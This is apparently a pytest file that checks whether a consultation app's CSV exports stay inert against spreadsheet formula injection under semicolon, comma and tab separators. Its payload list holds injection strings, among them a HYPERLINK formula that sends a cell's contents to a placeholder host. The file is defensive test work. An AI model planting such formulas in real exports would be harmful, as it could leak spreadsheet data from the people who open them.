"""Every CSV the app writes stays inert when a spreadsheet splits its lines on ";" (the list
separator of Vietnamese regional settings), on "," or on a tab: no piece of a line that a split
makes into a cell starts a formula (= + - @, tab, carriage return), every cell is quoted, and
the CSV still reads back as the table it was."""

from __future__ import annotations

import ast
import datetime as dt
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from consultations.commitments.service import add_commitment
from consultations.concerns.service import raise_concern
from consultations.core.access import operator
from consultations.core.database import Store
from consultations.core.records import Channel, ConcernCategory, MeetingKind
from consultations.core.spreadsheets import csv_bytes
from consultations.households.service import edit_household
from consultations.households.store import households_of
from consultations.meetings.service import MeetingRecord, log_meeting
from consultations.projects.service import find_project
from consultations.reporting.options import WHAT
from consultations.reporting.project_export import export_project
from translations import local_today

ROOT = Path(__file__).resolve().parents[3]
PAYLOADS = [
    'x;=HYPERLINK("http://example.invalid/?"&A1;"bấm")', ";=1+1", "Nguyễn; +1+1", "a,@SUM(A1)",
    "b\t=1", "c\n=1+1", "d\r\n-2+3", "e; =1+1", "f;\t=1",
]  # fmt: skip
#: A signed number ("-2", "+12,5 %") or a lone "-" (nothing to show): data, not a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*(?: ?%)?)?")
ACTOR = operator("t")


def live_pieces(data: bytes) -> list[str]:
    """Every piece of every line that would start a formula once split on ";", "," or a tab
    (a leading quote, as Excel strips it, is not counted; a plain signed number or a lone dash is no formula)."""
    text = data.decode("utf-8-sig")
    found = []
    for line in text.splitlines():
        for separator in (";", ",", "\t"):
            for piece in line.split(separator):
                cell = piece.lstrip('" ')
                if cell.startswith(
                    ("=", "+", "-", "@", "\t", "\r")
                ) and not _PLAIN_NUMBER.fullmatch(cell.rstrip('"')):
                    found.append(piece)
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_split_on_a_semicolon_comma_or_tab_starts_no_formula(payload: str) -> None:
    frame = pd.DataFrame({"Tên": [payload, "Lê Văn An"], payload: [1, -2], "Ghi chú": ["-", "+6"]})
    data = csv_bytes(frame)
    assert live_pieces(data) == []
    assert data.startswith(b"\xef\xbb\xbf")  # Excel shows Vietnamese
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back.shape == frame.shape  # quoted: a line break or separator inside stays in its cell
    assert back.iloc[0, 0].replace("'", "") == payload.replace("'", "")  # what was written
    assert back.iloc[1].tolist() == ["Lê Văn An", "-2", "+6"]  # numbers stay numbers


def test_the_unguarded_csv_would_have_let_a_formula_through() -> None:
    frame = pd.DataFrame({"Tên": PAYLOADS})
    assert live_pieces(frame.to_csv(index=False).encode()) != []  # the check can fail


def test_every_register_exported_as_csv_is_inert_under_a_semicolon_separator(
    demo_store: Store, tmp_path: Path
) -> None:
    project = find_project(demo_store, "cat-van-220kv")
    today = local_today()
    with demo_store.read() as conn:
        household = households_of(conn, project.id)[0]
    edit_household(demo_store, household.id, household.version,
                   {"head_name": PAYLOADS[0], "village": PAYLOADS[1], "notes": PAYLOADS[2]},
                   actor=ACTOR)  # fmt: skip  # a phone is checked to be digits: the notes are free
    raise_concern(demo_store, project.id, household_id=household.id, category=ConcernCategory.OTHER,
                  channel=Channel.MEETING, text=PAYLOADS[3], received_on=today, actor=ACTOR)  # fmt: skip
    add_commitment(demo_store, project.id, text=PAYLOADS[4], promised_by=PAYLOADS[7],
                   due_on=today, actor=ACTOR)  # fmt: skip
    log_meeting(demo_store, project.id, MeetingRecord(
        kind=MeetingKind.DIALOGUE, held_at=dt.datetime.combine(today, dt.time(8), tzinfo=dt.UTC),
        place=PAYLOADS[5], chair_name=PAYLOADS[8], summary=PAYLOADS[6]), actor=ACTOR)  # fmt: skip

    for what in WHAT:
        out = tmp_path / f"{what}.csv"
        rows = export_project(demo_store, project, "csv", out, actor=ACTOR, what=what)
        assert rows > 0, what
        assert live_pieces(out.read_bytes()) == [], what
    assert "HYPERLINK" in (tmp_path / "households.csv").read_text(encoding="utf-8-sig")


def test_no_module_writes_a_csv_but_the_one_inert_writer() -> None:
    paths = [ROOT / "cli.py"] + [
        path for folder in ("consultations", "app_pages", "ui", "geo") for path in (ROOT / folder).rglob("*.py")
    ]  # fmt: skip
    writers = []
    for path in paths:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in ("to_csv", "writer", "DictWriter")
            ):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == ["consultations/core/spreadsheets.py"]
